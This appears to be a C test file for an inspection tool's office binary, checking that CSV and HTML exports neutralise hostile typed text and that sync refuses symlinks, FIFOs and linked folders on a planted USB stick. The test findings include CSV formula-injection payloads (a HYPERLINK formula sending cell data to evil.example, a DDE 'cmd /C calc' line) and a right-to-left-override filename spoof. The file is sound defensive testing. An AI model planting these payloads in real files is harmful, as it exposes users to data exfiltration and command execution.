/* fieldqc-office and the device's sync folder against hostile input, through the real binary
 * (argv[1]): what an inspector typed reaches a buyer's spreadsheet and browser as text, never
 * as a formula or a reordered line (CSV cells starting with = + - @ TAB CR neutralised, a
 * UTF-8 BOM for Excel, bidi controls dropped from CSV and HTML); a prepared USB stick (links,
 * FIFOs, linked folders) neither hangs the pull nor redirects a write. */
#include "harness.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "fsio/fsio.h"
#include "office/office.h"
#include "services/sync.h"
#include "store/store.h"
#include "sync_fixture.h"

static const char *office_bin;

static int run(const char *cmd)
{
    int rc = system(cmd);
    return WIFEXITED(rc) ? WEXITSTATUS(rc) : -1;
}

static char *slurp(const char *path, size_t *out_len)
{
    unsigned char *data = NULL;
    size_t len = 0;
    if (fq_test_read_file(path, &data, &len))
        fail_msg("cannot read %s", path);
    char *s = realloc(data, len + 1);
    s[len] = '\0';
    *out_len = len;
    return s;
}

#define RLO "\xE2\x80\xAE"

static void test_export_and_report_neutralise_typed_text(void **state)
{
    (void)state;
    const char *dir = fq_test_dir("hostile-text");
    fx_device d;
    fx_device_create(&d, dir, "dev", "tab-h", 0, 0);
    fx_device_add_finding(&d, "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click for photos\")");
    fx_device_add_finding(&d, "@SUM(1+1)*cmd|' /C calc'!A0");
    fx_device_add_finding(&d, "Label reads " RLO "gpj.exe, check the carton");
    fx_device_add_finding(&d, "-2+3 cartons short");
    fq_store_close(d.st);
    char cmd[4096], path[1200];
    snprintf(cmd, sizeof cmd, "'%s' export --db '%s' --csv '%s/csv' > /dev/null 2>&1", office_bin,
             d.db_path, dir);
    assert_int_equal(run(cmd), 0);
    snprintf(path, sizeof path, "%s/csv/findings.csv", dir);
    size_t len = 0;
    char *csv = slurp(path, &len);
    assert_true(len > 3);
    assert_memory_equal(csv, "\xEF\xBB\xBF", 3); /* Excel reads it as UTF-8 */
    assert_non_null(strstr(csv, "\"'=HYPERLINK("));
    assert_non_null(strstr(csv, "\"'@SUM(1+1)"));
    assert_non_null(strstr(csv, "\"'-2+3 cartons short\""));
    assert_null(strstr(csv, RLO));
    assert_non_null(strstr(csv, "Label reads gpj.exe"));
    /* no cell of the file starts a formula */
    for (const char *p = csv + 3; *p; p++) {
        int cell_start = p == csv + 3 || p[-1] == ',' || p[-1] == '\n';
        if (cell_start && (*p == '=' || *p == '@' || *p == '+'))
            fail_msg("a cell starts with '%c': %.40s", *p, p);
    }
    free(csv);

    snprintf(cmd, sizeof cmd, "'%s' report --db '%s' --out '%s/report' > /dev/null 2>&1",
             office_bin, d.db_path, dir);
    assert_int_equal(run(cmd), 0);
    snprintf(path, sizeof path, "%s/report/visit-%s.html", dir, d.visit_uuid);
    char *html = slurp(path, &len);
    assert_null(strstr(html, RLO));
    assert_non_null(strstr(html, "Label reads gpj.exe"));
    free(html);
}

/* A USB stick prepared by someone else: the outbox holds a link to /dev/zero and a FIFO next
 * to the device's real bundle, and (second stick) the inbox is a link to a laptop folder.
 * The pull refuses the planted entries without hanging or reading without end, imports the
 * real bundle, and never writes the receipt through the link. */
static void test_sync_refuses_planted_entries(void **state)
{
    (void)state;
    const char *dir = fq_test_dir("hostile-stick");
    fx_device d;
    fx_device_create(&d, dir, "dev", "tab-s", 1, 0);
    fq_app_sync *dev = NULL;
    assert_int_equal(fq_app_sync_open(d.st, d.photo_dir, d.sync_dir, &dev), FQ_OK);
    fq_app_sync_export_result ex;
    assert_int_equal(fq_app_sync_export(dev, &ex), FQ_OK);
    fq_app_sync_close(dev);
    char p[1300], cmd[4096], db[1200];
    snprintf(p, sizeof p, "%s/outbox/tab-s-00000000T000000Z-zero.fqb", d.sync_dir);
    assert_int_equal(symlink("/dev/zero", p), 0);
    snprintf(p, sizeof p, "%s/outbox/tab-s-00000000T000001Z-fifo.fqb", d.sync_dir);
    assert_int_equal(mkfifo(p, 0644), 0);
    fx_office_path(dir, db, sizeof db);
    fq_office *enrol_at = NULL; /* the tablet is enrolled at this office */
    assert_int_equal(fx_office_open(db, &enrol_at), FQ_OK);
    fx_enrol(enrol_at, &d);
    fq_office_close(enrol_at);
    snprintf(cmd, sizeof cmd, "timeout 60 '%s' sync --db '%s' '%s' > '%s/sync.log' 2>&1",
             office_bin, db, d.sync_dir, dir);
    assert_int_equal(run(cmd), 1); /* two entries not pulled */
    snprintf(p, sizeof p, "%s/sync.log", dir);
    size_t len = 0;
    char *log = slurp(p, &len);
    assert_non_null(strstr(log, "symbolic link"));
    assert_non_null(strstr(log, "not a regular file"));
    assert_non_null(strstr(log, "imported"));
    free(log);
    /* the real bundle arrived */
    fq_office *off = NULL;
    assert_int_equal(fx_office_open(db, &off), FQ_OK);
    fq_visit v;
    assert_int_equal(fq_ostore_get_visit(fq_office_store(off), d.visit_uuid, &v), FQ_OK);
    fq_office_close(off);

    /* second stick: inbox/ is a link to a folder of the laptop */
    char elsewhere[1200], inbox[1300];
    snprintf(elsewhere, sizeof elsewhere, "%s/laptop-folder", dir);
    assert_int_equal(mkdir(elsewhere, 0755), 0);
    snprintf(inbox, sizeof inbox, "%s/inbox", d.sync_dir);
    snprintf(cmd, sizeof cmd, "rm -rf '%s' '%s/outbox/'*", inbox, d.sync_dir);
    assert_int_equal(run(cmd), 0);
    assert_int_equal(symlink(elsewhere, inbox), 0);
    snprintf(cmd, sizeof cmd, "timeout 60 '%s' sync --db '%s' '%s' > '%s/sync2.log' 2>&1",
             office_bin, db, d.sync_dir, dir);
    assert_int_not_equal(run(cmd), 0);
    snprintf(p, sizeof p, "%s/sync2.log", dir);
    log = slurp(p, &len);
    assert_non_null(strstr(log, "symbolic link"));
    free(log);
    snprintf(cmd, sizeof cmd, "test -z \"$(ls -A '%s')\"", elsewhere);
    assert_int_equal(run(cmd), 0); /* nothing written through the link */
    fq_store_close(d.st);
}

/* The device side of the same stick: a planted link instead of outbox/ or inbox/ is refused,
 * and the temporaries an export killed mid-write left in outbox/ are swept. */
static void test_device_refuses_linked_sync_folders(void **state)
{
    (void)state;
    const char *dir = fq_test_dir("hostile-device");
    fx_device d;
    fx_device_create(&d, dir, "dev", "tab-t", 0, 0);
    char out[1300], tmp[1400], target[1200];
    snprintf(out, sizeof out, "%s/outbox", d.sync_dir);
    assert_int_equal(fq_fsio_mkdirs(out, NULL, 0), FQ_OK);
    snprintf(tmp, sizeof tmp, "%s/.tmp-2147483646-a1b2c3", out); /* a killed export's */
    assert_int_equal(fq_test_write_file(tmp, "half a bundle", 13), 0);
    fq_app_sync *dev = NULL;
    assert_int_equal(fq_app_sync_open(d.st, d.photo_dir, d.sync_dir, &dev), FQ_OK);
    fq_app_sync_close(dev);
    assert_int_not_equal(access(tmp, F_OK), 0);
    snprintf(target, sizeof target, "%s/device-private", dir);
    assert_int_equal(mkdir(target, 0755), 0);
    char cmd[2600];
    snprintf(cmd, sizeof cmd, "rm -rf '%s'", out);
    assert_int_equal(run(cmd), 0);
    assert_int_equal(symlink(target, out), 0);
    dev = NULL;
    assert_int_equal(fq_app_sync_open(d.st, d.photo_dir, d.sync_dir, &dev), FQ_ERR_INVALID);
    assert_non_null(strstr(fq_app_sync_errmsg(dev), "symbolic link"));
    fq_app_sync_close(dev);
    fq_store_close(d.st);
}

int main(int argc, char **argv)
{
    if (argc < 2) {
        fprintf(stderr, "usage: test_office_hostile FIELDQC-OFFICE\n");
        return 2;
    }
    office_bin = argv[1];
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_export_and_report_neutralise_typed_text),
        cmocka_unit_test(test_sync_refuses_planted_entries),
        cmocka_unit_test(test_device_refuses_linked_sync_folders),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
